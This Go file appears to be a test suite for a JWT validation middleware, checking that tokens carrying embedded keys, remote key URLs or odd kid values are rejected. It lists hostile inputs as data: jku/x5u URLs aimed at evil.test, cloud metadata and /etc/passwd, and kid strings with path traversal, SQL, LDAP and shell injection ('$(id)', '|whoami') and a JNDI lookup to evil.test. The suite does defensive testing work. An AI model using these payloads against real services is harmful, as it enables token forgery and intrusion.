package main

import (
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"math/big"
	"strings"

	"github.com/bearerguard/bearerguard/middleware"
)

func headers(a *area) {
	a.ownKeys()
	a.keyPlaces()
	a.strangeKeyIDs()
	a.keyIDTypes()
	a.replicatedClaims()
	a.ignoredParameters()
}

// ownKeys are tokens that bring the key along that signed them.
func (a *area) ownKeys() {
	const source = "RFC 8725 §3.10, RFC 7515 §4.1.3, CVE-2018-0114"
	own := a.stranger.JWK()
	by := func(h header) string { return a.main.Mint(mint{Key: a.stranger, Header: h}) }
	known := a.main.KeyID()
	a.bad("jwk of the signer", by(header{"jwk": own}), source).because(middleware.ReasonUnknownKey)
	a.bad("jwk of the signer under a known kid", by(header{"jwk": own, "kid": known}), source).because(middleware.ReasonSignature)
	a.bad("jwk of the signer without a kid", by(header{"jwk": own, "kid": absent}), source).because(middleware.ReasonUnknownKey)
	a.bad("jwk of the signer with the kid of a known key inside", by(header{"jwk": with(own, header{"kid": known}), "kid": known}),
		source).because(middleware.ReasonSignature)
	a.bad("jwk that is a secret, and HS256", a.main.Mint(mint{
		Header: header{"alg": "HS256", "jwk": header{"kty": "oct", "k": encode("secret")}}, Sign: mac(sha256.New, []byte("secret")),
	}), source).because(middleware.ReasonAlgorithm)
	a.bad("jwks of the signer", by(header{"jwks": header{"keys": []any{own}}}), source).because(middleware.ReasonUnknownKey)
	a.good("jwk of the signer beside the right kid and signature", a.headed(header{"jwk": own}), "RFC 7515 §4: what is not needed is ignored")

	certificate := base64.StdEncoding.EncodeToString(a.certificate())
	a.bad("x5c of the signer", by(header{"x5c": []string{certificate}}), "RFC 8725 §3.10, RFC 7515 §4.1.6").because(middleware.ReasonUnknownKey)
	a.bad("x5c of the signer under a known kid", by(header{"x5c": []string{certificate}, "kid": known}),
		"RFC 8725 §3.10, RFC 7515 §4.1.6").because(middleware.ReasonSignature)
	sum := sha256.Sum256(a.certificate())
	a.bad("x5t#S256 of the signer", by(header{"x5t#S256": encode(sum[:]), "kid": absent}), "RFC 8725 §3.10").because(middleware.ReasonUnknownKey)
}

func with(members, changes header) header {
	all := header{}
	for _, m := range []header{members, changes} {
		for name, value := range m {
			all[name] = value
		}
	}
	return all
}

// certificate is one for the key of the stranger, by nobody who matters.
func (a *area) certificate() []byte {
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: now, NotAfter: now.AddDate(1, 0, 0)}
	return must(x509.CreateCertificate(random, template, template, a.stranger.Public(), newECKey().PrivateKey))
}

// keyPlaces are tokens that say where to look for the key. Nobody may ask there.
func (a *area) keyPlaces() {
	const source = "RFC 8725 §3.10, RFC 7515 §4.1.2, §4.1.5"
	known := a.main.KeyID()
	for name, place := range map[string]string{
		"another host": evilURL + "/jwks", "the issuer as user": "https://issuer.test@evil.test/jwks",
		"a host below the issuer's":      "https://issuer.test.evil.test/jwks",
		"an open redirect of the issuer": mainURL + "/redirect?to=" + evilURL + "/jwks", "a path of the issuer": mainURL + "/uploads/jwks.json",
		"the cloud's metadata": "http://169.254.169.254/latest/meta-data", "a file": "file:///etc/passwd", "this machine": "http://localhost:6379/",
	} {
		a.bad("jku at "+name, a.main.Mint(mint{Key: a.stranger, Header: header{"jku": place}}), source).because(middleware.ReasonUnknownKey)
		a.bad("x5u at "+name+", known kid", a.main.Mint(mint{Key: a.stranger, Header: header{"x5u": place, "kid": known}}),
			source).because(middleware.ReasonSignature)
	}
	a.bad("jku of an issuer that is not accepted, and its key",
		a.evil.Mint(mint{Header: header{"kid": "evil-1", "jku": evilURL + "/jwks"}, Claims: claims{"iss": mainURL}}),
		source).because(middleware.ReasonUnknownKey)
	a.good("jku beside the right kid and signature", a.headed(header{"jku": evilURL + "/jwks"}), "RFC 7515 §4: what is not needed is ignored, and not fetched")
	a.good("x5u beside the right kid and signature", a.headed(header{"x5u": "http://169.254.169.254/"}),
		"RFC 7515 §4: what is not needed is ignored, and not fetched")
}

// strangeKeyIDs are kids that mean something to a file system, a database or a shell.
func (a *area) strangeKeyIDs() {
	const source = "RFC 8725 §3.10, RFC 7515 §4.1.4"
	known := a.main.KeyID()
	for _, kid := range []string{
		"../../../../../../dev/null", "/dev/null", `..\..\..\windows\win.ini`, "file:///dev/null", "/proc/sys/kernel/randomize_va_space",
		"' OR '1'='1", "x' UNION SELECT 'secret'; --", "*)(kid=*", "key; touch /tmp/pwned", "|whoami", "$(id)", "${jndi:ldap://evil.test/a}",
		"http://169.254.169.254/", evilURL + "/jwks", "%00", "__proto__", "constructor", "*", "undefined", "null",
	} {
		token := a.main.Mint(mint{Header: header{"alg": "HS256", "kid": kid}, Sign: mac(sha256.New, nil)})
		a.bad("HS256 without a secret, kid "+quoted(kid), token, source).because(middleware.ReasonAlgorithm)
	}
	for _, kid := range []string{
		"nobody", "", known + "\x00", known + "\n", " " + known, strings.ToLower(known) + "x", "../" + known, known + "/../" + known, known + "\r\nX-Admin: true",
		known + `", error="none`, strings.Repeat("k", 1024),
	} {
		a.bad("signed by another key, kid "+strings.ReplaceAll(short(quoted(kid)), known, "KNOWN"),
			a.main.Mint(mint{Key: a.stranger, Header: header{"kid": kid}}), source)
	}
	a.bad("the kid of another key of the issuer", a.headed(header{"kid": a.main.Key("PS256").ID()}),
		"RFC 7517 §4.4, RFC 8725 §3.1").because(middleware.ReasonAlgorithm)
	a.bad("kid of 1025 octets", a.headed(header{"kid": strings.Repeat("k", 1025)}), "RFC 8725 §3.10; "+shortOf+", 1 KiB").because(middleware.ReasonHeader)
	a.bad("kid of 8000 octets", a.headed(header{"kid": strings.Repeat("k", 8000)}), "RFC 8725 §3.10; "+shortOf+", 1 KiB").because(middleware.ReasonHeader)
	a.bad("no kid, and another key", a.main.Mint(mint{Key: a.stranger, Header: header{"kid": absent}}), "RFC 9068 §4").because(middleware.ReasonUnknownKey)
	a.good("no kid, and a key of the issuer", a.headed(header{"kid": absent}), "RFC 7515 §4.1.4: kid is optional")
	for _, alg := range []string{"RS256", "PS256", "EdDSA"} {
		a.good("no kid, "+alg, a.main.Mint(mint{Algorithm: alg, Header: header{"kid": absent}}), "RFC 7515 §4.1.4: kid is optional")
	}
}

func (a *area) keyIDTypes() {
	for name, kid := range map[string]any{
		"null": nil, "a number": 1, "a boolean": false, "an array": []string{a.main.KeyID()}, "an object": header{"kid": a.main.KeyID()},
	} {
		a.bad("kid "+name, a.headed(header{"kid": kid}), "RFC 7515 §4.1.4: a string").because(middleware.ReasonHeader)
	}
}

func (a *area) replicatedClaims() {
	const source = "RFC 7519 §5.3"
	a.bad("iss of another issuer in the header", a.headed(header{"iss": evilURL}), source).because(middleware.ReasonHeader)
	a.bad("aud of another resource in the header", a.headed(header{"aud": theirs}), source).because(middleware.ReasonHeader)
	a.bad("aud in the header as an array", a.headed(header{"aud": []string{ours, theirs}}), source).because(middleware.ReasonHeader)
	a.bad("sub of somebody else in the header", a.headed(header{"sub": "root"}), source).because(middleware.ReasonHeader)
	a.bad("iss in the header alone", a.main.Mint(mint{Header: header{"iss": mainURL}, Claims: claims{"iss": absent}}),
		source+", RFC 9068 §4").because(middleware.ReasonUnrecognized)
	a.bad("aud in the header alone", a.main.Mint(mint{Header: header{"aud": ours}, Claims: claims{"aud": absent}}), source+", RFC 9068 §4")
	a.bad("exp in the header alone", a.main.Mint(mint{Header: header{"exp": now.Unix() + 600}, Claims: claims{"exp": absent}}),
		"RFC 9068 §2.2").because(middleware.ReasonClaims)
	a.good("iss, sub and aud in the header as in the payload", a.headed(header{"iss": mainURL, "sub": "user-1", "aud": ours}), source)
	a.good("a past exp in the header", a.headed(header{"exp": 1}), "RFC 7519 §5.3: only what both have is compared, and exp is no header parameter")
}

func (a *area) ignoredParameters() {
	const source = "RFC 7515 §4"
	for name, h := range map[string]header{
		"an unknown string": {"x": "y"}, "an unknown object": {"x": header{"alg": "none"}}, "an unknown null": {"x": nil}, "nonce": {"nonce": "n"},
		"zip": {"zip": "DEF"},
		"x5t": {"x5t": "AAAA"}, "alg in another case": {"ALG": "none"}, "kid in another case": {"Kid": "nobody"}, "p2c": {"p2c": 1000000000},
		"epk": {"epk": header{}},
	} {
		a.good("header with "+name, a.headed(h), source)
	}
	members := header{}
	for i := range 61 {
		members[fmt.Sprintf("x%d", i)] = i
	}
	a.good("header with 64 members", a.headed(members), "RFC 7515 §4; "+shortOf)
	members["one more"] = 1
	a.bad("header with 65 members", a.headed(members), shortOf)
}
